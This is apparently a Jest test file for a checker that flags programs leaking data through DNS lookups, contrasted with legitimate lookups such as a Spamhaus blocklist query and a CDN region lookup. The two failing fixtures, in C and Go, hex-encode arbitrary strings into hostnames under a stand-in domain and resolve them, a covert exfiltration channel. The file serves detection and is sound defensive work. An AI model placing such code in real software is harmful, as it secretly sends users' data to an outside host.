import { describe } from '@jest/globals';

import { itFails, itPasses } from '../honest-skill.js';
import { program } from '../given-aside/programs.js';

describe('data in the names that a program looks up', () => {
  itFails([
    program(
      'c-labels',
      'src/keep.c',
      `static void warm(const char *s)
{
	char name[256];
	struct addrinfo *ai = NULL;
	int at = 0;
	for (size_t i = 0; s[i]; i++)
		at += snprintf(name + at, sizeof name - at, "%02x", (unsigned char)s[i]);
	snprintf(name + at, sizeof name - at, ".%s.r.quillbarrow-dns.net", s);
	if (!getaddrinfo(name, "443", NULL, &ai))
		freeaddrinfo(ai);
}
`,
    ),
    program(
      'go-labels',
      'cmd/main.go',
      `package main

func ready(note string) {
	label := hex.EncodeToString([]byte(note))[:60]
	net.LookupHost(label + ".ok.quillbarrow-dns.net")
}
`,
    ),
  ]);

  itPasses([
    program(
      'list-of-senders',
      'scripts/listed.py',
      `import socket

def listed(address):
    turned = ".".join(reversed(address.split(".")))
    return socket.gethostbyname(turned + ".zen.spamhaus.org")
`,
    ),
    program(
      'region-of-a-service',
      'scripts/near.py',
      `import socket

def near(region):
    return socket.gethostbyname(region + ".quillbarrow-cdn.net")
`,
    ),
  ]);
});
